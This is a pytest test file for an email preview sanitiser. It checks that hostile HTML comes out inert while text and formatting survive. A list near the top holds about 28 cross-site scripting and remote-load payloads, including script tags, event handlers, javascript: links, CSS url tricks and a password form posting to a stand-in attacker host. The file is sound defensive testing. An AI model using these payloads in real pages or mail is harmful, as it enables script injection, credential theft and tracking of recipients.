"""The preview sanitiser: hostile HTML comes out inert, the text survives."""

from __future__ import annotations

import base64
from email.message import EmailMessage

import pytest
from selectolax.lexbor import LexborHTMLParser

from clawback.mail.content import header_block
from clawback.mail.preview import render_preview, sanitise_html

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
DATA_PNG = "data:image/png;base64," + base64.b64encode(PNG).decode()

# One payload per trick; every one must come out without a way to run or fetch anything.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<body onload="alert(1)">',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button formaction="https://e.example">Go</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://evil.example/login" target="_blank">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">',
    "<style>@import url(https://evil.example/s.css); body { background: url(https://evil.example/b.png) }</style>",
    '<div style="background-image: url(https://evil.example/b.png)">x</div>',
    '<div style="background: u\\72l(https://evil.example/b.png)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/c.png">x</td></tr></table>',
    '<img srcset="https://evil.example/a.png 1x" src="https://evil.example/b.png">',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://e.example/a">',
    '<input type="image" src="https://evil.example/i.png">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="#" onmouseover="alert(1)">hover</a><div onclick="alert(1)">c</div>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<!--[if gte mso 9]><img src="https://evil.example/mso.png"><![endif]-->',
    '<template><img src="https://evil.example/t.png"></template>',
    '<area href="https://evil.example/" shape="rect"><map><area href="https://e.example/"></map>',
]


def _assert_inert(html: str) -> None:
    tree = LexborHTMLParser(html)
    assert tree.css_first("script, style, iframe, frame, object, embed, form, input, button, svg, math") is None
    assert tree.css_first("meta, base, link, video, audio, area, map, template, textarea") is None
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on"), (node.tag, name)
            assert name.lower() not in {"href", "srcset", "background", "poster", "action", "formaction"}
            if name == "src":
                assert (value or "").startswith("data:image/png;base64,"), value
            if name == "style":
                assert "url" not in (value or "").lower() and "\\" not in (value or "")


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_html_comes_out_inert(payload: str) -> None:
    _assert_inert(sanitise_html(payload).html)


def test_text_and_formatting_survive() -> None:
    out = sanitise_html(
        "<html><head><title>Hidden title</title></head><body><h1>Notice</h1><p>Dear <b>customer</b>,"
        '<br>your <i>account</i> is <span style="color: red; font-weight: bold">locked</span>.</p>'
        "<table><tr><td>Amount</td><td>$1,000</td></tr></table><ul><li>one</li></ul></body></html>"
    ).html
    assert "<h1>Notice</h1>" in out
    assert "<b>customer</b>" in out and "<i>account</i>" in out
    assert '<span style="color:red;font-weight:bold">locked</span>' in out
    assert "<td>$1,000</td>" in out and "<li>one</li>" in out
    assert "Hidden title" not in out


def test_scripts_are_removed_with_their_text_and_handlers_without_their_element() -> None:
    out = sanitise_html('<p onclick="steal()">Click <script>steal()</script>here</p>').html
    assert out == "<p>Click here</p>"


def test_links_lose_their_target_but_show_it() -> None:
    preview = sanitise_html('<a href="https://login.evil.example/verify?u=1">Verify now</a>')
    assert preview.html == '<a title="Link (disabled): https://login.evil.example/verify?u=1">Verify now</a>'
    assert preview.disabled_links == 1


def test_remote_images_are_blocked_and_named() -> None:
    preview = sanitise_html('<img src="https://tracker.evil.example/p.gif?id=42" alt="Logo" width="1">')
    assert preview.blocked_images == 1
    img = LexborHTMLParser(preview.html).css_first("img")
    assert img is not None
    assert "src" not in img.attributes
    assert img.attributes["alt"] == "[image blocked: Logo]"
    assert img.attributes["title"] == "Remote image blocked: https://tracker.evil.example/p.gif?id=42"


def test_inline_images_are_kept_as_data() -> None:
    preview = sanitise_html(
        f'<img src="{DATA_PNG}"><img src="cid:logo%40x"><img src="cid:missing">', inline_images={"logo@x": DATA_PNG}
    )
    sources = [img.attributes.get("src") for img in LexborHTMLParser(preview.html).css("img")]
    assert sources == [DATA_PNG, DATA_PNG, None]
    assert preview.blocked_images == 1


def test_style_declarations_that_load_are_dropped_the_rest_kept() -> None:
    out = sanitise_html(
        '<p style="color: red; background-image: url(https://e.example/x.png); position: fixed">x</p>'
    ).html
    assert out == '<p style="color:red">x</p>'


# --- picking the body of a message ---------------------------------------------------------


def _message(*, html: str | None, text: str | None = "plain body", image: bool = False) -> bytes:
    msg = EmailMessage()
    msg["From"] = "it@evil.example"
    msg["To"] = "ann@example.org"
    msg["Subject"] = "Verify"
    if text is not None:
        msg.set_content(text)
    if html is not None:
        if text is None:
            msg.set_content(html, subtype="html")
        else:
            msg.add_alternative(html, subtype="html")
        if image:
            html_part = msg.get_payload()[-1] if msg.is_multipart() else msg
            html_part.add_related(PNG, "image", "png", cid="<logo@evil.example>")
    return bytes(msg)


def test_the_html_part_is_preferred_and_cid_images_are_inlined() -> None:
    preview = render_preview(_message(html='<p>Hi <img src="cid:logo@evil.example"></p>', image=True))
    assert preview.kind == "html"
    assert "plain body" not in preview.html
    img = LexborHTMLParser(preview.html).css_first("img")
    assert img is not None and img.attributes["src"] == DATA_PNG


def test_text_only_mail_gives_its_text() -> None:
    preview = render_preview(_message(html=None, text="<b>not markup</b> https://evil.example/x"))
    assert preview.kind == "text"
    assert preview.text.strip() == "<b>not markup</b> https://evil.example/x"


def test_an_attached_message_is_not_the_body() -> None:
    inner = _message(html="<p>inner html</p>", text=None)
    outer = EmailMessage()
    outer["Subject"] = "Fwd"
    outer.set_content("outer text")
    outer.add_attachment(inner, maintype="message", subtype="rfc822")
    preview = render_preview(bytes(outer))
    assert preview.kind == "text"
    assert preview.text.strip() == "outer text"


@pytest.mark.parametrize("raw", [b"", b"\x00\xff\xfe garbage", b"Content-Type: multipart/mixed\r\n\r\nno boundary"])
def test_malformed_mail_never_raises(raw: bytes) -> None:
    assert render_preview(raw).kind in {"html", "text", "empty"}


def test_header_block_stops_at_the_first_empty_line() -> None:
    raw = b"Subject: =?utf-8?q?Hi?=\r\nX-Odd: caf\xe9\r\n\tfolded\r\n\r\nBody: not a header\r\n"
    assert header_block(raw) == "Subject: =?utf-8?q?Hi?=\nX-Odd: caf\ufffd\n\tfolded"
